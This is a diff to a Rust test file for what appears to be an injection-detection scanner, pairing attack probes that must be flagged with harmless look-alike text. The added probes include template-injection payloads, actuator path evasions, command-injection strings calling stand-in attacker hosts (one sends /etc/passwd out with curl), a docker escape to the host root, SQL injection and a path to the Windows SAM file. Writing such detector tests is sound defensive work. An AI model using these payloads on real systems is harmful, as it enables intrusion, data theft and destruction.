@@ -379,8 +379,13 @@ fn scanner_probes_for_templates_and_out_of_band_hosts() {
             "{@contextDump/}",
             "{{[0]|reduce('system','id')}}",
             "{{['id']|sort('passthru')}}",
+            "{{ '%c%c'|format(95,95) }}",
+            "{{ ''|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
+            "{{ \"%c\"|format(95) }}",
         ],
         &[
+            "{{ \"%.2f\"|format(item.price) }} {{ currency }}",
+            "{{ '%d items'|format(count) }}",
             "{{ items|sort }}",
             "{{ posts|filter(p => p.published) }}",
             "{a, b}",
@@ -3526,6 +3531,7 @@ fn scanner_probes_and_evasions_next_to_admin_values() {
         &[
             "/actuator/env",
             "/actuator/heapdump",
+            "/actuator;/heapdump",
             "/api/actuator/gateway/routes",
             "/server-status",
             "/phpinfo.php",
@@ -3537,6 +3543,7 @@ fn scanner_probes_and_evasions_next_to_admin_values() {
         ],
         &[
             "/actuator/health",
+            "/actuator;jsessionid=1/health",
             "/actuator/info",
             "/docs/spring/actuator/environment.html",
             "/server-status-page/incidents",
@@ -3748,5 +3755,74 @@ fn query_languages_and_uploads_next_to_searches_and_documents() {
         &[
             "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">\n<title>Progress 72%</title>\n<style>.bar { fill: none; stroke: #2e7d32; }</style><circle class=\"bar\" r=\"4\"/></svg>",
         ],
+    );
+}
+
+#[test]
+fn blind_and_out_of_band_probes_next_to_everyday_text() {
+    table(
+        "cmdi",
+        Q,
+        &[
+            ";(id)",
+            "a;(whoami);b",
+            "foo|(id)",
+            "a && (whoami)",
+            "x;host evil.example",
+            "x;nslookup abc.oast.example",
+            "1|ping -c1 x.attacker.example",
+        ],
+        &[
+            "Tom & (Jerry)",
+            "see; (note) this",
+            "SignedHeaders=content-type;host;x-amz-date",
+            "server;dig.example.com",
+            "P(sleep | deadline) \u{2248} 0",
+            "My setup: Ubuntu 22.04 | Node 20 | pnpm 8.",
+            "Python 3.12 | Ruby 3.3 | PHP 8.3",
+            "kubectl get pods -n prod-eu CrashLoopBackOff",
+            "Pod is stuck in CrashLoopBackOff; kubectl describe shows OOMKilled.",
+            "Don't forget: `kubectl rollout restart deployment/web -n prod` after changing it.",
+            "docker build -t registry.example/app:1.4 .",
+            "index=web status>=500 earliest=-24h | stats count by uri_path | sort -count | head 20",
+        ],
+    );
+    // Set 29: the same tools with shell around them, or reaching out.
+    table(
+        "cmdi",
+        Q,
+        &[
+            "x|(sleep 5)",
+            "1| node -e \"require('child_process').exec('id')\"",
+            ";kubectl get secrets -A",
+            "a; docker run -v /:/host alpine chroot /host sh",
+            "Run `docker run -v /:/mnt alpine` now please",
+            "index=web | stats count | sort -count | curl -d @/etc/passwd x.example",
+        ],
+        &["Node 20, Python 3.12 (and perl 5)"],
+    );
+    table(
+        "sqli",
+        Q,
+        &[
+            "1; ATTACH DATABASE '\\\\sqlite.oast.example\\share\\x.db' AS x;--",
+            "'; drop table users--",
+            "1 and dbms_lock.sleep(5)",
+        ],
+        &[
+            "Haha, \"drop table\" sounded scarier than it was - it's just the side table.",
+            "time.sleep(2 ** attempt)",
+            "except requests.Timeout:\n    time.sleep(2 * attempt)",
+            "Attach database diagrams to the ticket",
+        ],
+    );
+    table(
+        "lfi",
+        Q,
+        &[
+            "C:\\Windows\\win.ini",
+            "..\\..\\windows\\system32\\config\\sam",
+        ],
+        &["Logs end up in C:\\Windows\\Temp\\acme-agent.log instead"],
     );
 }
